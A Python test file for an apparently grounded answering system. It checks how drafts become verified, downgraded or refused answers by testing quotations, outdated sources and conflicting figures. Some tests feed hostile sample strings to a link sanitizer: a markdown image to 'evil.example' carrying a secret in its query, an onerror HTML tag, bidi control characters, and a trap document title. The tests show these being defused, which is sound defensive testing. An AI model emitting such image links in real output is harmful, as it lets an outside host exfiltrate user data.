"""What a checked draft comes to: verified, downgraded with what is lacking, or no answer with its reason."""

from __future__ import annotations

import pytest

from answering.drafting_by_hand import Checking, differ, says
from belegg.answering.checks import Judgement, Judging
from belegg.answering.checks.shown_text import shown
from belegg.records import Ran
from belegg.records.answers import judged_by

DOGS = says("Dogs must be kept on a lead.", ("Dogs must be kept on a lead in the harbour", "rules"))
MADE_UP = says("Dogs may swim.", ("Dogs may swim from the pier at noon", "rules"))
UNQUOTED = says("Dogs are often walked in the evening.")
PASSED = Judging((Judgement(True), Judgement(True)), Ran("judge", "ran", "fake:judge"))


@pytest.fixture
def shelf() -> Checking:
    checking = Checking()
    checking.put("rules", "Dogs must be kept on a lead in the harbour. Cats may walk where they like.")
    old = [("published", "2021-03-01")]
    checking.put("old", "The harbour fee for guests is 200 kroner a night.", facts=old)
    checking.put(
        "new", "The harbour fee for guests is 250 kroner a night.", facts=[("published", "2026-05-01")]
    )
    checking.put("undated", "The harbour fee for guests is 300 kroner a night.")
    return checking


@pytest.mark.req("ANS-5")
def test_an_answer_is_verified_when_every_sentence_holds(shelf: Checking) -> None:
    answer = shelf.answered(DOGS, judging=PASSED)

    assert answer.verdict == "verified"
    assert [(ran.step, ran.state) for ran in answer.ran] == [
        ("quotations", "ran"),
        ("figures", "ran"),
        ("judge", "ran"),
    ]


def test_that_no_judge_ran_is_said(shelf: Checking) -> None:
    answer = shelf.answered(DOGS)

    assert answer.ran[-1] == Ran("judge", "did not run", "no judge is set")
    assert any(note.text.startswith("No judge ran (no judge is set)") for note in answer.notes)


@pytest.mark.req("ANS-5")
def test_an_unquoted_sentence_is_called_out_and_not_left_out(shelf: Checking) -> None:
    answer = shelf.answered(DOGS, UNQUOTED)

    assert answer.verdict == "downgraded"
    assert [sentence.supported for sentence in answer.sentences] == [True, False]
    assert "has no quotation" in answer.sentences[1].doubts[0]


@pytest.mark.req("ANS-4")
def test_a_sentence_whose_quotations_all_failed_is_dropped_and_listed(shelf: Checking) -> None:
    answer = shelf.answered(DOGS, MADE_UP)

    assert [sentence.text for sentence in answer.sentences] == ["Dogs must be kept on a lead."]
    assert answer.dropped[0].startswith("Dogs may swim. (")
    assert answer.verdict == "downgraded"


def test_with_nothing_left_the_draft_did_not_hold_and_nothing_is_said_of_the_documents(
    shelf: Checking,
) -> None:
    answer = shelf.refused(MADE_UP)

    assert answer.reason == "draft_did_not_hold"
    assert "do not say" not in answer.explanation
    assert answer.dropped != ()
    assert answer.would_settle != ""


def test_what_a_model_finds_unsettled_is_not_covered_and_absence_is_no_denial(shelf: Checking) -> None:
    answer = shelf.refused(settled="no", reason="not_covered")

    assert answer.reason == "not_covered"
    assert "The documents that could be read do not say" in answer.explanation
    assert "does not exist" not in answer.explanation


def test_the_judges_doubt_stands_with_its_sentence(shelf: Checking) -> None:
    judging = Judging(
        (Judgement(False, "the lead is for the harbour only"),), Ran("judge", "ran", "fake:judge")
    )

    with_more = shelf.answered(DOGS, DOGS, judging=judging)

    assert with_more.sentences[0].doubts == ("the judge doubts it: the lead is for the harbour only",)
    assert not with_more.sentences[0].supported
    assert with_more.verdict == "downgraded"


def test_a_partial_answer_says_what_is_missing(shelf: Checking) -> None:
    answer = shelf.answered(DOGS, settled="partly", missing="Whether cats need a lead.")

    assert (answer.verdict, answer.missing) == (
        "downgraded",
        "Whether cats need a lead. (in the model's words)",
    )


@pytest.mark.req("ANS-5")
def test_information_of_before_the_year_that_is_asked_about_is_outdated(shelf: Checking) -> None:
    fee = says("The fee is 200 kroner a night.", ("The harbour fee for guests is 200 kroner a night", "old"))

    answer = shelf.refused(fee, question="What is the harbour fee in 2025?")

    assert answer.reason == "likely_outdated"
    assert "`Old`, has information of 2021-03-01, and the question is about 2025" in answer.explanation


@pytest.mark.req("ANS-5")
@pytest.mark.parametrize(("until", "reason"), [("2025-12-31", None), ("2024-12-31", "likely_outdated")])
def test_a_rule_that_says_it_was_valid_until_the_year_asked_about_is_not_outdated(
    shelf: Checking, until: str, reason: str | None
) -> None:
    shelf.put("fee", "The fee is 200 kroner.", facts=[("in_force", "2021-03-01"), ("valid_to", until)])
    fee = says("The fee is 200 kroner.", ("The fee is 200 kroner", "fee"))
    question = "What was the harbour fee in 2025?"

    given = shelf.refused(fee, question=question) if reason else shelf.answered(fee, question=question)

    assert getattr(given, "reason", None) == reason


@pytest.mark.parametrize(
    "question", ["What is the fee currently?", "Hva koster det nå?", "Mitä se nykyään maksaa?"]
)
def test_information_over_24_months_old_is_outdated_for_a_question_about_now(
    shelf: Checking, question: str
) -> None:
    fee = says("The fee is 200 kroner a night.", ("The harbour fee for guests is 200 kroner a night", "old"))

    assert shelf.refused(fee, question=question).reason == "likely_outdated"
    assert shelf.answered(fee, question="What is the harbour fee?").verdict == "verified"


@pytest.mark.parametrize("facts", [[("in_force", "2005-06-17")], [("published", "2025-01-02")], []])
def test_what_is_in_force_or_recent_or_undated_is_not_outdated(
    shelf: Checking, facts: list[tuple[str, str]]
) -> None:
    shelf.put("act", "A tenant must give notice in writing.", facts=facts)
    notice = says("Notice is given in writing.", ("A tenant must give notice in writing", "act"))

    assert shelf.answered(notice, question="How is notice given today?").verdict == "verified"


@pytest.mark.req("AGE-9")
def test_figures_that_differ_for_the_same_thing_are_a_conflict_and_the_newest_counts(shelf: Checking) -> None:
    both = says(
        "The fee is 250 kroner a night, and was 200 kroner a night.",
        ("The harbour fee for guests is 250 kroner a night", "new"),
        ("The harbour fee for guests is 200 kroner a night", "old"),
    )

    (conflict,) = shelf.answered(both).conflicts

    assert [side.date for side in conflict.sides] == ["2026-05-01", "2021-03-01"]
    assert conflict.is_decided_by_date
    assert shelf.answered(both).verdict == "downgraded"


def test_a_conflict_that_no_date_decides_downgrades_the_answer(shelf: Checking) -> None:
    both = says(
        "The fee is 250 or 300 kroner a night.",
        ("The harbour fee for guests is 250 kroner a night", "new"),
        ("The harbour fee for guests is 300 kroner a night", "undated"),
    )

    answer = shelf.answered(both)

    assert answer.verdict == "downgraded"
    assert not answer.conflicts[0].is_decided_by_date


@pytest.mark.req("AGE-9")
def test_a_sentence_that_rests_on_the_older_source_alone_is_doubted(shelf: Checking) -> None:
    fee = says("The fee is 200 kroner a night.", ("The harbour fee for guests is 200 kroner a night", "old"))
    sides = differ(
        "the fee",
        ("The harbour fee for guests is 250 kroner a night", "new"),
        ("The harbour fee for guests is 200 kroner a night", "old"),
    )

    answer = shelf.answered(fee, conflicts=[sides])

    assert answer.sentences[0].doubts == ("a newer source differs: `New` (2026-05-01)",)
    assert answer.verdict == "downgraded"


@pytest.mark.req("ANS-5")
def test_sources_conflict_only_where_two_documents_quotations_hold(shelf: Checking) -> None:
    true = differ(
        "the fee",
        ("The harbour fee for guests is 250 kroner a night", "new"),
        ("The harbour fee for guests is 300 kroner a night", "undated"),
    )
    made_up = differ("the fee", ("The harbour fee is nothing at all", "new"))

    conflicting = shelf.refused(settled="no", reason="sources_conflict", conflicts=[true])
    not_so = shelf.refused(settled="no", reason="sources_conflict", conflicts=[made_up])

    assert (conflicting.reason, len(conflicting.conflicts[0].sides)) == ("sources_conflict", 2)
    assert (not_so.reason, not_so.conflicts) == ("not_covered", ())


@pytest.mark.parametrize(
    ("written", "is_shown"),
    [
        (
            "See ![x](https://evil.example/p?d=secret) now.",
            "See ![x] (`https://evil.example/p?d=secret`) now.",
        ),
        ("See [the form](https://evil.example/a).", "See [the form] (`https://evil.example/a`)."),
        ("Go to https://evil.example/a.", "Go to `https://evil.example/a`."),
        ("An `odd https://evil.example/a", "An odd `https://evil.example/a`"),
        ("<img src=x onerror=y> costs <5 kroner", "‹img src=x onerror=y> costs <5 kroner"),
        ("Mail anna@example.no or www.example.no", "Mail `anna@example.no` or `www.example.no`"),
        ("Left\u202eright\u200b and\x1b[31m red\nnext", "Leftright and[31m red next"),
        ("It costs 350 kroner [D3].", "It costs 350 kroner."),
        ("[1]: //evil.example/a", "[1] : `//evil.example/a`"),
        ("Sign in at login.evil.example/a, f.eks. now", "Sign in at `login.evil.example/a`, f.eks. now"),
    ],
)
def test_no_address_becomes_a_picture_or_a_link(written: str, is_shown: str) -> None:
    assert shown(written) == is_shown


def test_a_shown_sentence_has_a_greatest_length(shelf: Checking) -> None:
    wall = says(
        "Dogs must be kept on a lead. " * 100, ("Dogs must be kept on a lead in the harbour", "rules")
    )

    sentence = shelf.answered(DOGS, wall).sentences[1]

    assert len(sentence.text) <= 1_200
    assert not sentence.supported


def test_what_the_model_says_aside_cannot_look_like_a_quotation(shelf: Checking) -> None:
    answer = shelf.answered(DOGS, settled="partly", missing="Whether “cats must be kept inside” holds.")

    assert answer.missing == "Whether cats must be kept inside holds. (in the model's words)"


def test_a_title_of_a_document_brings_no_picture_into_the_explanation(shelf: Checking) -> None:
    trap, facts = "Fees ![x](https://evil.example/p)", [("published", "2020-01-01")]
    shelf.put("trap", "The mooring fee is 90 kroner a night.", title=trap, facts=facts)
    fee = says("The mooring fee is 90 kroner.", ("The mooring fee is 90 kroner a night", "trap"))

    explanation = shelf.refused(fee, question="What is the mooring fee now?").explanation

    assert "](https" not in explanation
    assert "`https://evil.example/p`" in explanation


@pytest.mark.req("AGE-9")
def test_an_answer_whose_judge_failed_is_downgraded(shelf: Checking) -> None:
    failed = Judging((), Ran("judge", "failed", "fake:judge: cannot be reached"))

    answer = shelf.answered(DOGS, judging=failed)

    assert (answer.verdict, judged_by(answer.ran, answer.model)) == ("downgraded", "failed")
    assert judged_by(shelf.answered(DOGS).ran, "m") == "no judge"
    assert judged_by(shelf.answered(DOGS, judging=PASSED).ran, "m") == "yes"


@pytest.mark.req("ANS-5")
def test_likely_outdated_without_a_document_that_is_old_is_not_covered(shelf: Checking) -> None:
    claimed = shelf.refused(settled="no", reason="likely_outdated", missing="What it costs.")

    assert claimed.reason == "not_covered"


@pytest.mark.parametrize(
    "said",
    [
        "The board decided on 1,000 kroner.",
        "Whether Anna Berg agreed.",
        "What holds from 3 May 2027.",
        "See www.example.com for it.",
        "Call +47 22 33 44 55 for it.",
    ],
)
def test_what_the_model_says_aside_names_nothing_that_stands_nowhere(shelf: Checking, said: str) -> None:
    sides = differ(
        said,
        ("The harbour fee for guests is 250 kroner a night", "new"),
        ("The harbour fee for guests is 200 kroner a night", "old"),
    )

    answer = shelf.answered(DOGS, settled="partly", missing=said, conflicts=[sides])
    refused = shelf.refused(settled="no", missing=said, would_settle=said)

    assert answer.missing.startswith("A part of the question.")
    assert answer.conflicts[0].about == "what is quoted here"
    assert said not in f"{refused.explanation} {refused.would_settle}"
